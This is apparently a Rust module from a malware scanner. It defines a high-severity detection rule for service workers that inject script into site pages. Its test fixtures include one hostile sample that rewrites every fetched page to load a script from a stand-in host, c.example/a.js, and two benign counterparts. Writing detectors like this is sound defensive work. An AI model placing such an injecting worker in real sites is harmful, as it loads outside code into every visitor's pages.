//! `script-put-in-by-worker`.

use crate::facts::Atom;
use crate::signals::{Evidence, Held, Signal, one};
use crate::taint::{Mark, Sink};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "script-put-in-by-worker",
    description: "A worker puts a script into the pages of the site.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::WorkerFetch]),
        one(&[Atom::AnswerBody, Atom::RequestCopied]),
        one(&[Atom::ScriptElement]),
    ],
    within: 300,
    only_if: Some(puts_in),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"self.addEventListener('fetch',e=>e.respondWith(fetch(e.request).then(r=>r.text()).then(t=>new Response(t.replace('</head>','<script src=//c.example/a.js></script></head>')))))"#,
        ],
        without: &[
            r#"self.addEventListener('fetch',e=>e.respondWith(caches.match(e.request).then(r=>r||fetch(e.request))))"#,
            r#"self.addEventListener('fetch',e=>e.respondWith(fetch(e.request).then(r=>r.text()).then(t=>new Response(t.replace('{{user}}',name)))))"#,
        ],
    },
};

/// Whether a script is what replaces a part of a page.
fn puts_in(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = held.first..=held.last.saturating_add(NEAR);
    evidence.flows.iter().any(|flow| {
        flow.sink == Sink::Replaced && near.contains(&flow.at) && flow.marks.has(Mark::ScriptElement)
    })
}

/// Items after the place in which the page may be changed.
const NEAR: u32 = 100;
